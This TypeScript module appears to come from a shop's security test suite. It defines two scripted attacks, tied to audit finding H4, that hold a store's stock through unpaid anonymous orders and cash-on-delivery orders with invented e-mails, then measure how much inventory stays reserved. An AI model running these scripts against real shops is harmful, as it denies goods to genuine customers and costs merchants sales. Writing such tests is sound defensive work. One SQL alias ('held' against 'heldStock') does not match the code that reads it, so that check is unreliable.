import type { CartLine } from '@pinpu/shared/contracts';
import type { Attack } from '../attack.ts';
import type { Shop } from '../shop.ts';
import { checkout, lineOf, soldAs } from '../stranger/order.ts';
import { Visitor } from '../stranger/visitor.ts';

/** The largest number of units in one of the script's orders; few enough for any limit on a single order. */
const UNITS = 1000;

/** The script gives up after this many rejected orders. */
const REJECTIONS = 3;

const productsOf = async (who: Visitor): Promise<string[]> => {
  const pageOf = async (page: number): Promise<string[]> => {
    const { text } = await who.get(`/api/products?p=${page}&count=100`);
    const items: { prd_id: string }[] = JSON.parse(text).pager.items;
    return items.map(({ prd_id }) => prd_id);
  };
  const all = new Set<string>();
  for (let page = 1; ; page += 1) {
    const before = all.size;
    for (const prd_id of await pageOf(page)) all.add(prd_id);
    if (all.size === before) return [...all];
  }
};

/** The part of the stock that is reserved, the number of orders, and for how many hours. */
async function heldStock(shop: Shop) {
  const [stock] = await shop.query<{
    heldStock: number;
    units: number;
    orders: number;
    hours: number;
  }>(`
    SELECT sum(reserved)::int AS held, sum(on_hand)::int AS units,
      (SELECT count(*) FROM orders)::int AS orders,
      (SELECT coalesce(ceil(extract(epoch FROM max(expires_at) - now()) * 2 / 3600) / 2, 0)
        FROM stock_reservations)::float AS hours
    FROM products WHERE enabled`);
  return stock ?? { heldStock: 0, units: 0, orders: 0, hours: 0 };
}

/** The lines of a cart up to a total of `most`, where `weight` gives each line's share. */
function upTo(
  most: number,
  cart: readonly CartLine[],
  weight: (line: CartLine) => number,
): CartLine[] {
  let sum = 0;
  return cart.filter((line) => {
    if (sum + weight(line) > most) return false;
    sum += weight(line);
    return true;
  });
}

/** A script without an account orders everything and pays nothing. */
export const emptyShelves: Attack = {
  finding: 'H4',
  title: 'all units held by one script that pays nothing',
  run: async (shop) => {
    const script = new Visitor(shop);
    const lines = (await productsOf(script)).map((prd_id) => lineOf(prd_id, 50));
    let rejected = 0;
    for (let i = 0; rejected < REJECTIONS; i += 1) {
      const s = `script-${i}`;
      const left = await soldAs(script, s, lines);
      if (left.length === 0) break;
      const mail = { cus_email: `${s}@pinpu.test` };
      const { status } = await checkout(
        script,
        s,
        upTo(UNITS, left, ({ qty }) => qty),
        mail,
      );
      if (status !== 200) rejected += 1;
    }
    const { units, orders, hours, ...stock } = await heldStock(shop);
    const counted = `${stock.heldStock} of ${units} units held for ${hours} h by ${orders} orders`;
    return { succeeded: stock.heldStock > units / 2, counted };
  },
};

/** Pay way 1 (spec §4), up to the amount that a demo shop accepts on delivery, including shipping. */
const CASH_ON_DELIVERY = 1;
const AT_THE_DOOR = 19_000;

const DELIVERIES = 40;
const WEEK_HOURS = 7 * 24;

/** Orders paid on delivery with invented e-mails: nobody has to pay, and nothing cancels them. */
export const heldAtTheDoor: Attack = {
  finding: 'H4',
  title: 'units held for weeks by orders on delivery with made-up e-mails',
  run: async (shop) => {
    const script = new Visitor(shop);
    const lines = (await productsOf(script)).map((prd_id) => lineOf(prd_id, 5));
    for (let i = 0; i < DELIVERIES; i += 1) {
      const s = `script-${i}`;
      const left = await soldAs(script, s, lines);
      const cart = upTo(AT_THE_DOOR, left, ({ prd_price, qty }) => prd_price * qty);
      const change = { cus_email: `${s}@pinpu.test`, pay_way: CASH_ON_DELIVERY };
      await checkout(script, s, cart, change);
    }
    const { orders, hours, ...stock } = await heldStock(shop);
    const counted = `${stock.heldStock} units held for ${hours} h by ${orders} of ${DELIVERIES} orders`;
    return { succeeded: stock.heldStock > 0 && hours > WEEK_HOURS, counted };
  },
};
